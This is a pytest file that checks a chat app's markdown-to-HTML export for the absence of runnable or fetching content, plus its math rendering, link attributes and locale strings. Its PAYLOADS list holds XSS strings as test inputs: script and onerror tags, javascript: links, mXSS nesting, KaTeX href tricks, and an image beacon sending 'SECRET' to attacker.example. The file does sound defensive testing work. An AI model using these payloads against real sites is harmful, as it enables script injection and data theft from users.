"""The account-wide HTML page: markdown rendered as on screen, and nothing in it that can run."""

from __future__ import annotations

import re
import time
from dataclasses import astuple
from html.parser import HTMLParser
from pathlib import Path

import pytest

from chatgate.services.export_page import LABELS, page_language, render_markdown

LOCALES = Path(__file__).resolve().parents[2] / "web" / "src" / "locales"

# The catalogue's rendering payloads (research/security.md, D1–D21, D25) that a markdown file can
# carry; mermaid's are not here (diagrams stay source code in this page).
PAYLOADS = [
    "<script>__pwned()</script>",
    "<img src=x onerror=__pwned()>",
    "<svg onload=__pwned()> <svg><animate onbegin=__pwned() attributeName=x>",
    "[x](javascript:__pwned())",
    "[x](JaVaScRiPt:__pwned()) [x](&#106;avascript:__pwned()) [x]( \x01javascript:__pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+)",
    '![x](javascript:__pwned()) <a href="vbscript:msgbox(1)">x</a>',
    "[x][r]\n\n[r]: javascript:__pwned()",
    "<javascript:__pwned()> javascript:__pwned()",
    '[x](https://a.example "\\" onmouseover=__pwned() x=\\"")',
    '<iframe srcdoc="<script>parent.__pwned()</script>"> <object data=x> <embed src=x>',
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>",
    "<svg><style><img src=x onerror=__pwned()></style></svg>",
    '```"><img src=x onerror=__pwned()>\ncode\n```\n\n```html\n</code><script>__pwned()</script>\n```',
    "$\\href{javascript:__pwned()}{x}$ $\\href{JAVASCRIPT:__pwned()}{x}$ \\[\\href{javascript:x}{y}\\]",
    "$\\url{javascript:x}$ $\\htmlData{x=y}{z}$ $\\includegraphics{https://evil/p.png}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$",
    "![a](https://attacker.example/p.png?d=SECRET)",
]
FORBIDDEN_TAGS = {"script", "img", "svg", "iframe", "object", "embed", "style", "form", "input"}


class _Elements(HTMLParser):
    """Every element and attribute as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def _active(rendered: str) -> list[str]:
    parser = _Elements()
    parser.feed(rendered)
    problems = []
    for tag, attrs in parser.found:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or (
                name in ("href", "src", "xlink:href")
                and scheme.startswith(("javascript:", "vbscript:", "data:"))
            ):
                problems.append(f"<{tag} {name}={value!r}>")
    return problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_a_message_carries_can_run_or_fetch(payload: str) -> None:
    started = time.perf_counter()
    rendered = render_markdown(payload)
    assert _active(rendered) == [], rendered
    assert time.perf_counter() - started < 5  # bounded: no expansion bomb


def test_answers_read_as_on_screen() -> None:
    rendered = render_markdown(
        "**Bold** and `code`\n\n```python\ndef f():\n    return 1\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "Inline $x^2$, \\(a+b\\), and\n\n$$\\int_0^1 f(x)\\,dx$$\n\n\\[E = mc^2\\]\n\ncosts $5 or $10"
    )
    assert "<strong>Bold</strong>" in rendered and "<code>code</code>" in rendered
    assert '<code class="language-python"><span class="hl-k">def</span>' in rendered
    assert "<table>" in rendered and "<td>2</td>" in rendered
    assert rendered.count("<math") == 4
    assert rendered.count('display="block"') == 2
    # Prices are not math.
    assert "costs $5 or $10" in rendered


def test_math_sizes_are_bounded_and_links_never_tell_where_they_came_from() -> None:
    assert 'width="20em"' in render_markdown("$\\rule{1000000em}{1000000em}$")
    link = render_markdown("[docs](https://example.org/a)")
    assert 'rel="noopener noreferrer"' in link
    # A remote image is a link to it, never fetched when the file is opened.
    assert render_markdown("![chart](https://example.org/c.png)") == (
        '<p><a href="https://example.org/c.png" rel="noopener noreferrer">chart</a></p>\n'
    )


def test_the_page_speaks_the_persons_language() -> None:
    assert page_language("zh-TW") == "zh-TW"
    assert page_language("fr") == "fr-FR"
    assert page_language("de-AT") == "de-DE"
    assert page_language("tlh") == page_language(None) == "en-US"


@pytest.mark.parametrize("lang", sorted(LABELS))
def test_the_pages_words_are_the_web_apps_own(lang: str) -> None:
    """The server's copy of the exported page's words cannot drift from the web app's."""
    source = (LOCALES / f"{lang}.ts").read_text(encoding="utf-8")
    for word in astuple(LABELS[lang]):
        assert f"'{word}'" in source, f"{lang}: {word!r} is not in web/src/locales/{lang}.ts"


def test_every_shipped_language_has_the_pages_words() -> None:
    shipped = {p.stem for p in LOCALES.glob("*-*.ts")}
    assert shipped == set(LABELS)
